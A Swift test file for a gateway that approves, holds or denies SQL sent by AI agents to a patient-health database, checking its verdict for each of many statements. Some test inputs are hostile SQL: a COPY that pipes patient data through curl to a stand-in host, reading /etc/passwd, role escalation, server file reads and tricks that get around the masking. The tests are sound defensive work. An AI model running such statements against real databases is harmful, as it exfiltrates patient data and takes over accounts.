import Foundation
import XCTest
@testable import HoopApproval
import HoopFrames
import HoopSQL

/// The default policy for a PHI database (docs/approval.md, "Default rules") judging a
/// table of statements, with libpg_query's classification underneath: each row says
/// what must happen to that text when an agent sends it.
final class VerdictTests: XCTestCase {
    static let phiConnection: JSON = .object([
        "masking": .object(["columns": .array(["patients", "encounters", "providers"].map {
            .object(["table": .string($0), "column": .string("x"), "strategy": .string("redact")])
        })]),
        "approval": .object(["key_columns": .array([.string("mrn")])]),
    ])
    let policy = try! Policy(connection: phiConnection, gateway: .object([:]))
    let agent = Requester(issuer: "https://idp.test", subject: "a1", user: "agent@example.org", groups: ["agents"], kind: "agent")

    func verdict(_ sql: String) -> Verdict { policy.verdict(Classifier.classify(sql, options: policy.classifyOptions), agent) }

    /// (statement, verdict, the rule that decides it: nil = don't care)
    static let table: [(String, Action, String?)] = [
        // plain reads
        ("select 1", .allow, nil),
        ("select now(), version()", .allow, nil),
        ("select id, mrn from patients where id = 42", .allow, nil),
        ("select * from patients where mrn = 'MRN-000001'", .allow, nil),
        ("select * from patients where id in (1, 2, 3)", .allow, nil),
        ("select * from patients where id = $1", .allow, nil),
        ("select * from patients limit 10", .allow, nil),
        ("select * from patients order by id fetch first 5 rows only", .allow, nil),
        ("select count(*) from patients", .allow, nil),
        ("select department, count(*) from encounters where patient_id = 7 group by department", .allow, nil),
        ("SELECT * FROM pg_catalog.pg_tables", .allow, nil),
        ("select * from information_schema.columns where table_name = 'patients'", .allow, nil),
        ("show search_path", .allow, nil),
        ("explain select * from patients", .allow, nil),
        ("values (1), (2)", .allow, nil),
        // the statistics that bound a keyed read are the gateway's evidence (the review of s46)
        ("vacuum encounters", .allow, nil),
        ("analyze encounters", .review, "review-statistics"),
        ("vacuum (analyze) encounters", .review, "review-statistics"),
        ("set default_statistics_target = 1", .review, "review-statistics"),
        ("select set_config('default_statistics_target', '1', false)", .review, nil),
        // bulk reads of PHI tables
        ("select * from patients", .review, "review-phi-bulk-read"),
        ("SeLeCt FiRsT_NaMe FrOm PaTiEnTs", .review, "review-phi-bulk-read"),
        ("select * from \"patients\"", .review, "review-phi-bulk-read"),
        ("select * from public.patients where city = 'Springfield'", .review, "review-phi-bulk-read"),
        ("select * from patients limit 100000", .review, "review-phi-bulk-read"),
        ("select p.*, e.note from patients p join encounters e on e.patient_id = p.id", .review, "review-phi-bulk-read"),
        ("/* just one */ select * from encounters", .review, "review-phi-bulk-read"),
        ("-- harmless\nselect note from encounters", .review, "review-phi-bulk-read"),
        ("with p as (select * from patients) select * from p", .review, "review-phi-bulk-read"),
        ("select * from (select * from patients) s limit 5", .allow, nil),
        ("declare c cursor for select * from patients", .review, "review-phi-bulk-read"),
        // non-PHI tables read freely
        ("create temp table scratch(x int)", .review, "review-ddl"),
        ("select * from some_lookup_table", .allow, nil),
        // bounded and unbounded writes
        ("update patients set phone = null where id = 5", .allow, nil),
        ("delete from encounters where id = 9", .allow, nil),
        ("insert into encounters (id, patient_id, admitted_at, department, diagnosis_code, note) values (1, 2, now(), 'ER', 'Z00', 'x')", .allow, nil),
        ("update patients set phone = null", .review, "review-unbounded-write"),
        ("DELETE FROM encounters", .review, "review-unbounded-write"),
        ("dElEtE fRoM \"encounters\"", .review, "review-unbounded-write"),
        ("update patients set phone = null where true", .review, "review-unbounded-write"),
        ("delete from encounters where 1 = 1", .review, "review-unbounded-write"),
        ("truncate encounters", .review, nil),
        ("truncate table patients cascade", .review, nil),
        ("with d as (delete from encounters returning *) select count(*) from d", .review, "review-unbounded-write"),
        ("select * from (with x as (update patients set ssn = null returning id) select * from x) s", .review, "review-unbounded-write"),
        ("with d as (delete from encounters where id = 1 returning id) select * from d", .allow, nil),
        ("insert into archive select * from patients", .review, nil),
        ("explain analyze delete from encounters", .review, "review-unbounded-write"),
        ("explain delete from encounters", .allow, nil),
        ("merge into patients p using (values (1, 'x')) v(id, phone) on p.id = v.id when matched then update set phone = v.phone", .allow, nil),
        // from a security review: writes bounded in name only
        ("merge into patients p using incoming i on p.id = i.id when matched then update set phone = i.phone", .review, "review-unbounded-write"),
        ("merge into encounters e using patients s on e.patient_id = s.id when matched then delete", .review, "review-unbounded-write"),
        ("delete from encounters where $1", .review, "review-unbounded-write"),
        ("delete from encounters where department = $1 or $2", .review, "review-unbounded-write"),
        ("update patients set phone = null where id = 1 or true", .review, "review-unbounded-write"),
        ("delete from encounters where id = 3 and $1", .allow, nil),
        // a column that is no key may name every row (the catalog's unique keys may bound it)
        ("delete from encounters where department = 'ER' and $1", .review, "review-unbounded-write"),
        ("update patients set phone = null where now() > '2000-01-01'", .review, "review-unbounded-write"),
        ("insert into patients (id) select generate_series(1, 1000) on conflict (id) do update set phone = null", .review, "review-unbounded-write"),
        ("insert into patients (id, mrn) values (1, 'x') on conflict (id) do update set mrn = excluded.mrn", .allow, nil),
        // aggregates that gather every row into one value are bulk reads
        ("select json_agg(p) from patients p", .review, "review-phi-bulk-read"),
        ("select string_agg(ssn, ',') from patients", .review, "review-phi-bulk-read"),
        ("select max(date_of_birth), count(*) from patients", .allow, nil),
        ("insert into scratch (id, v) select -1, string_agg(ssn, ';') from patients", .review, nil),
        ("insert into archive select * from some_lookup_table", .review, "review-export"),
        // a search_path that lets a schema shadow the built-ins
        ("set search_path = evil, pg_catalog", .review, "review-hidden"),
        ("select set_config('search_path', 'evil, pg_catalog', false)", .review, "review-hidden"),
        ("set search_path = public, pg_catalog", .review, "review-hidden"),
        ("set search_path = pg_catalog, public", .allow, nil),
        // exports
        ("copy patients to stdout", .review, "review-export"),
        ("copy (select * from patients where id = 1) to stdout with csv", .review, "review-export"),
        ("copy encounters to '/tmp/encounters.csv'", .review, nil),
        ("create table export_copy as select * from patients", .review, nil),
        ("select * into export_copy from patients", .review, nil),
        ("create materialized view mv as select * from patients", .review, nil),
        ("copy encounters from stdin", .allow, nil),
        // DDL and DCL
        ("create table t (id int primary key)", .review, "review-ddl"),
        ("drop table patients", .review, "review-ddl"),
        ("DROP TABLE IF EXISTS \"Patients\" CASCADE", .review, "review-ddl"),
        ("alter table patients add column notes text", .review, "review-ddl"),
        ("create index on encounters (department)", .review, "review-ddl"),
        ("create view v as select id from patients", .review, "review-ddl"),
        ("create or replace function f() returns int language sql as 'select 1'", .review, "review-ddl"),
        ("comment on table patients is 'x'", .review, "review-ddl"),
        ("create extension dblink", .review, "review-ddl"),
        ("grant select on patients to public", .review, "review-dcl"),
        ("revoke all on encounters from analyst", .review, "review-dcl"),
        ("create role intruder login password 'x'", .review, "review-dcl"),
        ("alter role hoop_gateway superuser", .review, "review-dcl"),
        ("alter default privileges grant select on tables to public", .review, "review-dcl"),
        // multi-statement: the strictest wins
        ("select 1; drop table patients", .review, "review-ddl"),
        ("select 1; select 2", .allow, nil),
        ("select 1; alter system set fsync = off", .deny, "no-alter-system"),
        ("begin; delete from encounters; commit", .review, "review-unbounded-write"),
        // hidden work
        ("do $$ begin delete from encounters; end $$", .review, nil),
        ("DO 'begin perform 1; end'", .review, nil),
        ("call archive_everything()", .review, nil),
        ("execute never_prepared(1)", .review, nil),
        ("select my_function(id) from patients where id = 1", .review, nil),
        ("select dblink_exec('dbname=clinic', 'drop table patients')", .review, nil),
        ("select query_to_xml('select * from patients', true, true, '')", .review, nil),
        ("select pg_read_file('/etc/hostname')", .review, "review-server-files"),
        ("select lo_export(12345, '/tmp/out')", .review, "review-server-files"),
        ("select pg_terminate_backend(12345)", .review, "review-admin-functions"),
        // PREPARE runs nothing: its statement is judged when EXECUTE runs it (the stage
        // resolves EXECUTE p to what p was prepared as; test_ring_approve.py).
        ("prepare p as delete from encounters", .allow, nil),
        ("prepare q as select id from patients where id = $1", .allow, nil),
        // guardrails: denied
        ("alter system set log_statement = 'none'", .deny, "no-alter-system"),
        ("copy patients to program 'curl -d @- http://example.invalid'", .deny, "no-copy-program"),
        ("copy encounters from program 'cat /etc/passwd'", .deny, "no-copy-program"),
        ("set role postgres", .deny, "no-role-change"),
        ("SET SESSION AUTHORIZATION postgres", .deny, "no-role-change"),
        ("reset role", .deny, "no-role-change"),
        ("select set_config('role', 'postgres', false)", .deny, "no-role-change"),
        ("load 'plpgsql'", .deny, "no-load"),
        // everyday session statements
        ("set search_path = public", .allow, nil),
        ("set hoop.justification = 'ticket 42'", .allow, nil),
        ("begin", .allow, nil),
        ("commit", .allow, nil),
        ("rollback", .allow, nil),
        ("savepoint a", .allow, nil),
        ("listen events", .allow, nil),
        ("vacuum encounters", .allow, nil),
        ("discard all", .allow, nil),
        ("", .allow, nil),
        // unparsable: held, never passed
        ("selec 1", .review, "unparsed"),
        ("select * from patients where", .review, "unparsed"),
        ("drop table patients; selec 1", .review, "unparsed"),
    ]

    func testDefaultPolicyTable() {
        XCTAssertGreaterThanOrEqual(Self.table.count, 80)
        var wrong: [String] = []
        for (sql, action, rule) in Self.table {
            let v = verdict(sql)
            if v.action != action || (rule != nil && !v.reasons.contains { $0.rule == rule }) {
                wrong.append("\(sql.debugDescription): got \(v.action.rawValue) by \(v.reasons.map(\.rule)), want \(action.rawValue)\(rule.map { " by \($0)" } ?? "")")
            }
        }
        XCTAssertTrue(wrong.isEmpty, "\(wrong.count) of \(Self.table.count) judged wrongly:\n" + wrong.joined(separator: "\n"))
    }

    /// A value written into a column masked with tokens reads back as the token the same
    /// value has in every row: written guesses are a codebook (hunt s41). Such writes are
    /// held; other columns' writes and reads of tokenized columns are not.
    func testWritesOfTokenizedColumnsAreReviewed() throws {
        let p = try Policy(connection: .object(["masking": .object(["columns": .array([
            .object(["table": .string("patients"), "column": .string("first_name"), "strategy": .string("hash")]),
            .object(["table": .string("pat*"), "column": .string("*_name"), "strategy": .string("hash")]),
            .object(["table": .string("patients"), "column": .string("ssn"), "strategy": .string("redact")]),
        ])])]), gateway: .object([:]))
        func judged(_ sql: String) -> Verdict { p.verdict(Classifier.classify(sql, options: p.classifyOptions), agent) }
        for sql in [
            "insert into patients (id, first_name) values (900001, 'Avery')",
            "insert into patients select 900000 + o, w from unnest(array['Avery', 'Blake']) with ordinality u(w, o)",
            "insert into public.patients values (900001, 'x', 'Avery')",
            "update patients set last_name = 'Blake' where id = 5",
            "update patients set (phone, last_name) = ('1', 'Blake') where id = 5",
            "copy patients (id, first_name) from stdin",
            "merge into patients p using (values (1)) v(id) on p.id = v.id when matched then update set first_name = 'Avery'",
        ] {
            let v = judged(sql)
            XCTAssertEqual(v.action, .review, sql)
            XCTAssertTrue(v.reasons.contains { $0.rule == "review-tokenized-write" }, "\(sql): \(v.reasons.map(\.rule))")
        }
        for sql in ["update patients set phone = null where id = 5", "insert into encounters (id, note) values (1, 'x')",
                    "select first_name from patients where id = 5"] {
            XCTAssertEqual(judged(sql).action, .allow, sql)
        }
        XCTAssertEqual(verdict("update patients set first_name = 'x' where id = 5").action, .allow, "no hash rule: no codebook")
    }

    /// A write that reads the row it changes copies what may be masked (hunt s51: `set
    /// state = substr(ssn, 1, 2)` read unmasked by the next session): held as an export.
    /// A counter is no copy, but on a column the masking rules name it probes the mask (a
    /// date shown as its year shifted a day at a time): held too; elsewhere it runs.
    func testAWriteThatReadsItsRowIsHeldAndACounterOnAMaskedColumnToo() throws {
        let p = try Policy(connection: .object(["masking": .object(["columns": .array([
            .object(["table": .string("patients"), "column": .string("ssn"), "strategy": .string("partial")]),
            .object(["table": .string("encounters"), "column": .string("admitted_*"), "strategy": .string("redact")]),
            .object(["table": .string("patients"), "column": .string("visits"), "strategy": .string("keep")]),
        ])])]), gateway: .object([:]))
        func judged(_ sql: String) -> Verdict { p.verdict(Classifier.classify(sql, options: p.classifyOptions), agent) }
        for sql in ["update patients set state = substr(ssn, 1, 2) where id in (1, 2, 3)",
                    "update patients set ssn = reverse(ssn) where id = 1",
                    "update encounters set admitted_at = admitted_at + 100 where id = 1",
                    "update encounters set admitted_at = admitted_at + interval '100 days' where id = 1",
                    "update patients set ssn = ssn || ' x' where id = 1",
                    "update public.patients set ssn = ssn - 1 where id = 1"] {
            let v = judged(sql)
            XCTAssertEqual(v.action, .review, sql)
            XCTAssertTrue(v.reasons.contains { $0.rule == "review-export" }, "\(sql): \(v.reasons.map(\.rule))")
        }
        for sql in ["update encounters set note = note || ' reviewed' where id = 1",
                    "update accounts set balance = balance + -1234 where id = 5",
                    "update patients set visits = visits + 1 where id = 1"] {
            XCTAssertEqual(judged(sql).action, .allow, sql)
        }
    }

    func testHiddenWorkIsNeverAllowedByACatchAllRule() throws {
        let p = try Policy(connection: .object(["approval": .object(["rules": .array([
            .object(["action": .string("allow")]),
        ])])]), gateway: .object([:]))
        let c = Classifier.classify("do $$ begin delete from encounters; end $$")
        XCTAssertEqual(p.verdict(c, agent).action, .review)
        let explicit = try Policy(connection: .object(["approval": .object(["rules": .array([
            .object(["action": .string("allow"), "match": .object(["hidden": .bool(true)])]),
        ])])]), gateway: .object([:]))
        XCTAssertEqual(explicit.verdict(c, agent).action, .allow)
    }

    func testReasonsNeverQuoteTheText() {
        // Reasons travel to notifications: the parser's message ("at or near '…'") does not.
        let v = verdict("select * from patients where ssn = '900-12-3456")
        XCTAssertEqual(v.action, .review)
        XCTAssertFalse(v.summary.contains("900-12-3456"), v.summary)
        XCTAssertFalse(v.reasons.map(\.message).joined().contains("900"), v.summary)
    }

    func testUnparsedCanBeDeniedButNeverAllowed() throws {
        let deny = try Policy(connection: .object(["approval": .object(["unparsed": .string("deny")])]), gateway: .object([:]))
        XCTAssertEqual(deny.verdict(Classifier.classify("selec 1"), agent).action, .deny)
        XCTAssertThrowsError(try Policy(connection: .object(["approval": .object(["unparsed": .string("allow")])]), gateway: .object([:])))
    }

    func testRulesMatchIdentityTimeAndTables() throws {
        let p = try Policy(connection: .object(["approval": .object(["rules": .array([
            .object(["name": .string("dba-ddl"), "action": .string("allow"), "match": .object(["kind": .string("ddl"), "groups": .array([.string("dba")])])]),
            .object(["name": .string("night"), "action": .string("deny"), "match": .object(["hours": .string("22:00-06:00")]),
                     "message": .string("not at night")]),
            .object(["name": .string("billing"), "action": .string("review"), "match": .object(["tables": .string("billing")]),
                     "approvals": .int(2), "require_justification": .bool(true)]),
            .object(["name": .string("agents-ddl"), "action": .string("review"), "match": .object(["kind": .string("ddl"), "identity_kind": .string("agent")])]),
        ])])]), gateway: .object([:]))
        let dba = Requester(issuer: "i", subject: "d", user: "dba@example.org", groups: ["dba"], kind: "person")
        let noon = ISO8601DateFormatter().date(from: "2026-11-26T12:00:00Z")!
        let midnight = ISO8601DateFormatter().date(from: "2026-11-26T23:30:00Z")!
        let ddl = Classifier.classify("create table t (x int)")
        XCTAssertEqual(p.verdict(ddl, dba, at: noon).action, .allow)
        XCTAssertEqual(p.verdict(ddl, agent, at: noon).action, .review)
        XCTAssertEqual(p.verdict(Classifier.classify("select 1"), agent, at: midnight).summary, "not at night")
        let billing = p.verdict(Classifier.classify("select * from public.billing where id = 1"), agent, at: noon)
        XCTAssertEqual(billing.action, .review)
        XCTAssertEqual(billing.approvalsRequired, 2)
        XCTAssertTrue(billing.requireJustification)
    }

    func testMisspeltConditionsAndActionsAreRefused() {
        XCTAssertThrowsError(try Policy(connection: .object(["approval": .object(["rules": .array([
            .object(["action": .string("allow"), "match": .object(["tabels": .string("x")])]),
        ])])]), gateway: .object([:])))
        XCTAssertThrowsError(try Policy(connection: .object(["approval": .object(["rules": .array([
            .object(["action": .string("permit")]),
        ])])]), gateway: .object([:])))
        XCTAssertThrowsError(try Policy(connection: .object(["approval": .object(["hold_timeout_seconds": .int(0)])]), gateway: .object([:])))
    }

    /// An identity that does not say its kind is an agent's: it never approves (hoop-auth
    /// always says; this is the stage's own default, defence in depth).
    func testAnIdentityWithoutAKindIsAnAgent() throws {
        let who = try XCTUnwrap(Requester(identity: .object(["subject": .string("s1"), "user": .string("u@example.org"),
                                                            "groups": .array([.string("approvers")])])))
        XCTAssertEqual(who.kind, "agent")
        XCTAssertFalse(policy.mayApprove(who, sets: []))
    }
}
